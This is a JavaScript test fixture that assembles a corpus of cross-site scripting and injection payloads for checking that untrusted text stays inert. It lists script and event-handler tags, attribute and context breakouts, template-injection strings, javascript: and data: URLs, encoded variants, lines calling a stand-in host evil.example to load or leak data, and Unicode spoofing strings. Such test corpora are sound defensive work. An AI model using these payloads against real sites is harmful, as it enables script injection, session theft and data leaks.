// Strings that would run, load or forge something if any of them were taken for more than text (SECURITY.md C1, C4).
const run = 'window.pwned=1'

const tags = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `</script><script>${run}</script>`,
  `<script type=module>${run}</script>`, `<script\n>${run}</script\n>`, `<script/x>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<IMG SRC=x OnErRoR=${run}>`, `<img/src/onerror=${run}>`, `<img src="x" onerror='${run}'`,
  `<img src="https://evil.example/a.png">`, `<img srcset="https://evil.example/a.png 1x">`, `<image href=x onerror=${run}>`, `<img src=x:x onerror\n=${run}>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`, `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<iframe src="javascript:parent.${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src=https://evil.example></iframe>`,
  `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<applet code=x></applet>`, `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=import href=https://evil.example/>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<style>@import 'https://evil.example/x.css';</style>`, `<style>*{background:url(https://evil.example/x)}</style>`, `<div style="background:url(https://evil.example/x)">x</div>`,
  `<body onload=${run}>`, `<body onpageshow=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`,
  `<button autofocus onfocus=${run}>x</button>`, `<details open ontoggle=${run}>x</details>`, `<video><source onerror=${run}></video>`, `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`, `<marquee onstart=${run}>x</marquee>`, `<form action="javascript:${run}"><button>x</button></form>`,
  `<form><button formaction="javascript:${run}">x</button></form>`, `<isindex action="javascript:${run}">`, `<keygen autofocus onfocus=${run}>`,
  `<a href="javascript:${run}">x</a>`, `<a href="JaVaScRiPt:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href="vbscript:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a ping=https://evil.example href=#>x</a>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></math>`, `<math href="javascript:${run}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`, `<template><img src=x onerror=${run}></template>`, `<xmp><img src=x onerror=${run}></xmp>`,
  `<title><img src=x onerror=${run}></title>`, `<plaintext>`, `<!--<img src="--><img src=x onerror=${run}>`, `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml version="1.0"?><x onload=${run}/>`,
  `<x onclick=${run}>x</x>`, `<x contenteditable onblur=${run}>x</x>`, `<custom-element onfocus=${run} tabindex=0 autofocus>x</custom-element>`,
]
const breakouts = [
  `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `" onmouseover="${run}`, `' onmouseover='${run}`, '` onmouseover=`' + run, `"/><script>${run}</script>`,
  `--><img src=x onerror=${run}>`, `]]><img src=x onerror=${run}>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`,
  `\\"><script>${run}</script>`, `";${run};//`, `';${run};//`, `\\';${run};//`, `</button><img src=x onerror=${run}>`,
]
const templates = [
  `{{constructor.constructor('${run}')()}}`, `{{_c.constructor('${run}')()}}`, '${' + run + '}', `#{${run}}`, `<%= ${run} %>`, `[[${run}]]`, `{{ $emit.constructor('${run}')() }}`,
  `<div v-html="'<img src=x onerror=${run}>'"></div>`, `<div @click="${run}">x</div>`, `<component :is="'script'">${run}</component>`,
]
const addresses = [
  `javascript:${run}`, `javascript://%0a${run}`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`, `https://evil.example/?leak=1`, `//evil.example/x`,
  `![x](https://evil.example/a.png)`, `[x](javascript:${run})`, `<javascript:${run}>`, `[x]: javascript:${run}`,
]
const encoded = [
  `&lt;script&gt;${run}&lt;/script&gt;`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `&#60;img src=x onerror=${run}&#62;`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `＜script＞${run}＜/script＞`, `‹script›${run}‹/script›`,
]
/** Hidden or turning characters: shown as marks. */
export const hidden = [
  'invoice\u202Efdp.exe', 'pay\u200Bpal', '\u2066abc\u2069', 'line one\nforged: admin signed in', 'tab\there', 'bell\u0007 and escape \u001B[31mred', 'soft\uFEFFbom', 'next\u0085line', '\u2028\u2029',
]

export const corpus = [...tags, ...breakouts, ...templates, ...addresses, ...encoded, ...hidden]
